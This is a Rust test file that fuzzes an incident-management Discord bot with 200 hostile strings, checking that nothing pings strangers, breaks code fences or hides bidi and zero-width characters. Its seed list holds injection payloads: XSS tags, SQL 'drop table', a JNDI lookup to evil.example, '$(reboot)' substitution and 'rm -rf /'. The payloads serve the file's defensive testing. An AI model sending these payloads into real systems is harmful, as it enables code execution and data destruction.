//! Two hundred hostile texts, through every door that takes a stranger's words and onto every screen that shows them.
//!
//! The local Discord refuses what Discord would refuse, so a text that breaks a limit shows as an effect that failed. What
//! it would let through, a ping or a text that swallows the lines below it, is looked for on every message.

mod far_ends;
mod forms;
mod sources;

use discord_sim::MessageView;

use crate::world::{Alert, Room, Span as _, World};

/// What people and machines have been seen to put where a few words were expected.
const SEEDS: [&str; 25] = [
    "@everyone look here",
    "@here <@1000000000000000101> <@&1000000000000000012> <#1000000000000000050>",
    "**bold** __under__ *it* ~~gone~~ ||hidden||",
    "```\nrm -rf /\n```",
    "``` an open fence",
    "`one` ``two` back\\ticks\\",
    "[click me](https://evil.example/login) <https://evil.example>",
    "# Heading\n## Another\n> quote\n>>> all of the rest",
    "- [x] done\n- [ ] **Backend Engineer:** drop the table <!-- id:db-up -->",
    "\u{202e}txet eht desrever\u{202c} \u{2067}abc\u{2069}",
    "ze\u{200b}ro\u{200d} wi\u{feff}dth\u{2060} \u{ad}",
    "Z\u{0351}\u{0361}\u{0489}a\u{0334}\u{0353}l\u{0337}\u{0321}g\u{0335}o",
    "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿 🇩🇪 ✅ ☑️ ❤️‍🔥",
    "بسم الله الرحمن الرحيم",
    "line one\r\nline two\n\n\n\n\n\nline eight\u{2028}line nine\u{85}",
    "nul\u{0} bell\u{7} escape\u{1b}[31mred\u{1b}[0m delete\u{7f}",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "'; drop table incident; -- \" or 1=1",
    "${jndi:ldap://evil.example/a} $(reboot) `reboot` {{7*7}} %n%n%s",
    "bw1|1|diagnosis|resolve-anyway",
    "<t:0:R> </inc new:1> <a:party:123456789012345678> :smile:",
    "**IMPACT** none\n**ROLES** nobody\n**UPDATE** all is well",
    "INC-0001 resolved. T-1 retracted.",
    "https://discord.gg/evil discord.com/api/webhooks/1/abc",
    "   \t \u{3000} \u{a0} ",
];

/// Eight ways to make each of them worse.
fn dressed(seed: &str, way: usize) -> String {
    match way {
        0 => seed.to_owned(),
        1 => seed.repeat(10_000 / seed.len().max(1) + 1),
        2 => format!("```{seed}"),
        3 => format!("{seed}\n{seed}\n```"),
        4 => seed
            .chars()
            .flat_map(|character| [character, '\u{200b}'])
            .collect(),
        5 => format!("{}{seed}", "\n".repeat(40)),
        6 => format!("**{seed}||"),
        _ => format!("\u{202e}{}", seed.to_uppercase()),
    }
}

fn texts() -> Vec<String> {
    SEEDS
        .iter()
        .flat_map(|seed| (0..8).map(move |way| dressed(seed, way)))
        .collect()
}

/// What a client lets somebody type into a field of this length.
fn typed(text: &str, most: usize) -> String {
    let kept: String = text
        .chars()
        .filter(|character| *character != '\0')
        .take(most)
        .collect();
    if kept.trim().is_empty() {
        "x".to_owned()
    } else {
        kept
    }
}

/// Nobody is pinged, and no message of the bot swallows a line with a fence.
fn nobody_is_pinged_by_it(world: &World) {
    for message in said_by_the_bot(world) {
        closes_its_fences(&message.text());
    }
    pings_nobody(world);
}

fn said_by_the_bot(world: &World) -> Vec<MessageView> {
    let bot = world.discord().bot_id();
    let channels = world.discord().channels().into_iter();
    channels
        .flat_map(|channel| world.discord().messages(channel.id))
        .filter(|message| message.author.id == bot)
        .collect()
}

/// Whoever may be pinged in this night: the team, by a call the bot decided on.
fn pings_nobody(world: &World) {
    let team = [
        world.sam(),
        world.ada(),
        world.fay(),
        world.mo(),
        world.kim(),
    ]
    .map(|one| one.id());
    for message in said_by_the_bot(world) {
        let strangers = message
            .mention_ids
            .iter()
            .filter(|id| !team.contains(id))
            .count();
        assert!(
            !message.mention_everyone && message.mention_role_ids.is_empty() && strangers == 0,
            "pings whom it must not: {}",
            message.text()
        );
    }
}

/// A fence that somebody opened in their words would swallow whatever stands below them.
fn closes_its_fences(text: &str) {
    assert!(
        text.matches("```").count().is_multiple_of(2),
        "an open fence in\n{text}"
    );
}

/// The board reads as a board: each of its lines once, none of them swallowed by a fence that a text opened.
fn the_board_still_reads(board: &MessageView) {
    let text = board.text();
    for head in ["**IMPACT**", "**ALERTS**", "**ROLES**", "**UPDATE**"] {
        let lines = text.lines().filter(|line| line.starts_with(head));
        assert_eq!(lines.count(), 1, "{head} in\n{text}");
    }
    assert!(!text.contains("```"), "a fence in\n{text}");
}

/// Whether a character turns the order of what stands beside it round, or takes no room on the screen.
fn is_hidden(character: char) -> bool {
    matches!(
        character,
        '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}'
    )
}

fn hides_nothing(what: &str, text: &str) {
    let hidden = text.chars().find(|character| is_hidden(*character));
    assert_eq!(hidden, None, "hides in {what}:\n{text:?}");
}

/// What is read first holds nothing that cannot be seen: the titles, the names and topics of channels, the boards.
async fn nothing_hides_in_the_heads(world: &World) {
    for number in 1..=world.incidents().await {
        let incident = world.incident(i64::try_from(number).expect("few")).await;
        hides_nothing("a title", &incident.title);
    }
    for channel in world.discord().channels() {
        hides_nothing("a channel's name", &channel.name);
        hides_nothing("a channel's topic", &channel.topic);
        for message in world.discord().messages(channel.id) {
            if message.pinned && message.author.id == world.discord().bot_id() {
                hides_nothing("a board", &message.text());
            }
        }
    }
}

fn board_of(world: &World, room: &Room<'_>) -> MessageView {
    let mut boards = world.discord().messages(room.id).into_iter();
    boards
        .rfind(|message| message.pinned && message.text().contains("**ROLES**"))
        .expect("the channel has its board")
}

#[tokio::test]
async fn two_hundred_hostile_texts_go_in_by_every_door_and_nobody_is_hurt() {
    let texts = texts();
    assert_eq!(texts.len(), 200);
    let world = World::new().await;
    world.everything_burns().await;
    world.sam().takes_it().await;
    let room = world.channel("inc-0001-");
    let (sam, mo) = (world.sam().in_channel(&room), world.mo().in_channel(&room));

    // Monitoring: names, labels and annotations.
    for (number, text) in texts.iter().enumerate() {
        let alert = Alert::named(&format!("{} {number}", typed(text, 200)))
            .severity("warning")
            .service("orders-api")
            .label("instance", &typed(text, 2_000))
            .label("team", &typed(text, 60))
            .summary(&typed(text, 2_000));
        let body = alert.webhook(world.now()).to_string().into_bytes();
        let (status, answer) = world.alertmanager().posts_bytes(body, &[]).await;
        assert!(status.is_success(), "{answer}");
    }
    world.settle().await;
    world.advance(1.minutes()).await;
    the_board_still_reads(&board_of(&world, &room));

    // Chat, marked by a prefix; as long as a client allows.
    let before = world.timeline(1).await.len();
    for (number, text) in texts.iter().enumerate() {
        let line = format!("obs: {number} {text}");
        sam.in_discord()
            .say(room.id, &typed(&line, 1_000))
            .expect("a client sends that");
    }
    world.settle().await;
    assert_eq!(
        world.timeline(1).await.len(),
        before + texts.len(),
        "what was marked is kept"
    );

    // Forms and typed commands; each text by one of the doors in turn.
    for (number, text) in texts.iter().enumerate() {
        match number % 5 {
            0 => {
                let form = sam.clicks("More…").await.clicks("Impact").await;
                form.fills_in(&[("Who cannot do what? Numbers if you know", &typed(text, 300))])
                    .await;
            }
            1 => {
                let form = sam.clicks("More…").await.clicks("We think it is…").await;
                form.fills_in(&[("In one line; a guess is enough", &typed(text, 300))])
                    .await;
            }
            2 => {
                let form = sam.types("/inc log").await;
                form.fills_in(&[("What happened", &typed(text, 1_000))])
                    .await;
            }
            3 => {
                let line = typed(text, 200).replace(['\n', '\r'], " ");
                sam.types(&format!("/inc phase to:diagnosis note:{line}"))
                    .await;
            }
            _ => {
                let line = typed(text, 200).replace(['\n', '\r'], " ");
                mo.types(&format!("/inc log text:{line}")).await;
            }
        }
    }
    the_board_still_reads(&board_of(&world, &room));

    // What the stakeholders read, in somebody's own words.
    for text in texts.iter().step_by(20) {
        world.advance(2.minutes()).await;
        let form = mo.clicks("Update").await.clicks("Edit").await;
        form.fills_in(&[(
            "What they read, above the next promise",
            &typed(text, 1_500),
        )])
        .await;
    }

    // The same words read back: views, board, postmortem.
    for line in [
        "/inc show",
        "/inc show view:timeline",
        "/inc show view:everything",
        "/inc list",
        "/admin why",
    ] {
        sam.types(line).await.expect_private();
    }
    sam.types("/inc resolve")
        .await
        .clicks("Resolve anyway")
        .await;
    world.advance(1.minutes()).await;
    nobody_is_pinged_by_it(&world);
    nothing_hides_in_the_heads(&world).await;
    world.ends().await;
}

#[tokio::test]
async fn a_hostile_title_opens_a_channel_with_a_plain_name() {
    for text in texts().iter().step_by(9) {
        let world = World::new().await;
        let title = typed(text, 200).replace(['\n', '\r'], " ");
        world.sam().types(&format!("/inc new {title}")).await;
        let channels = world.incident_channels();
        assert_eq!(channels.len(), 1, "{title:?}");
        let room = world.channel("inc-0001");
        assert!(
            room.name
                .chars()
                .all(|character| character.is_ascii_alphanumeric() || character == '-'),
            "{}",
            room.name
        );
        the_board_still_reads(&board_of(&world, &room));
        nobody_is_pinged_by_it(&world);
        nothing_hides_in_the_heads(&world).await;
        world.ends().await;
    }
}
